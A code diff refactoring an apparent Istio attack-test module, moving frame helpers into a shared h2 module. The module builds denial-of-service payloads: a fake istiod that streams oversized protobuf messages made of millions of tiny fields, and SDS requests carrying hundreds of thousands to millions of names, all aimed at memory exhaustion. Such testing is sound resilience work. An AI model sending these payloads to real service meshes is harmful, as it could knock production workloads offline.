@@ -1,10 +1,11 @@
 """Messages of a few MB that are millions of tiny fields: decoded they may take fifty times their bytes."""
 import time
+from itertools import repeat
 from pathlib import Path
 
 from . import h2
-from .h2 import DATA, END_HEADERS, GOAWAY, HEADERS, RST, SECRET, WINDOW, Conn, frame, varint
-from .on_istiod import ROOM, TYPE, WORLD, has_room, under
+from .h2 import DATA, END_HEADERS, GOAWAY, HEADERS, PIECE, RST, SECRET, WINDOW, Conn, frame, framed, part, pieces
+from .on_istiod import ROOM, TYPE, WORLD, under
 from .registry import attack
 from .world import POD, SDS
 
@@ -14,10 +15,6 @@ BUNDLE, CONFIG = TYPE + "istio.mesh.v1alpha1.ProxyConfig", TYPE + "envoy.config.
 NAMES, WASM = TYPE + "istio.networking.nds.v1.NameTable", TYPE + "envoy.extensions.filters.http.wasm.v3.Wasm"
 # Half of the largest response that the agent gathers, which may take its size twice.
 MOST = 12_000_000
-
-
-def part(number, body):
-    return varint(number << 3 | 2) + varint(len(body)) + body
 
 
 def resource(type_url, value):
@@ -38,18 +35,9 @@ def module(n, place):
 
 def pushed(message):
     """An istiod that pushes it again and again, as fast as windows are opened."""
-    framed = b"\0" + len(message).to_bytes(4, "big") + message
-
     def play(call):
         call.accept()
-        room, at = dict.fromkeys((0, call.stream), ROOM), 0
-        while call.on():
-            if not has_room(call, room):
-                return
-            piece = framed[at:at + 16_000]
-            call.data(piece)
-            room = {of: left - len(piece) for of, left in room.items()}
-            at = (at + 16_000) if at + 16_000 < len(framed) else 0
+        call.pour((piece for one in repeat(framed(message)) for piece in pieces(one)), ROOM)
     return play
 
 
@@ -90,7 +78,7 @@ for name, (why, world, make) in PUSHES.items():
         bounded(world, lambda: under(world, size, pushed(make()), patience=5))
 
 
-NODE = part(2, b"\x0a\x1fsidecar~10.213.0.2~pod.ns~ns.sv")
+NODE = part(2, h2.NODE)
 LISTS = {
     "empty names": ("requests of two million empty names", NODE + b"\x1a\0" * 2_000_000),
     "many names": ("requests of 400,000 names", NODE + b"".join(part(3, b"%x" % n) for n in range(400_000))),
@@ -104,7 +92,7 @@ def request(conn, stream, body):
     conn.send(frame(HEADERS, END_HEADERS, stream, h2.request(h2.SDS_PATH)))
     room, at = dict.fromkeys((0, stream), 64_000), 0
     while at < len(body):
-        if piece := min(16_000, len(body) - at, *room.values()):
+        if piece := min(PIECE, len(body) - at, *room.values()):
             conn.send(frame(DATA, 0, stream, body[at:at + piece]))
             room, at = {of: left - piece for of, left in room.items()}, at + piece
             continue
@@ -122,7 +110,7 @@ for name, (why, message) in LISTS.items():
     @attack(f"SDS {name}", why, short=name == "many names")
     def lists(world, size, message=message):
         message += part(4, SECRET.encode())
-        body, end = b"\0" + len(message).to_bytes(4, "big") + message, time.monotonic() + size.seconds
+        body, end = framed(message), time.monotonic() + size.seconds
 
         def play():
             while time.monotonic() < end:
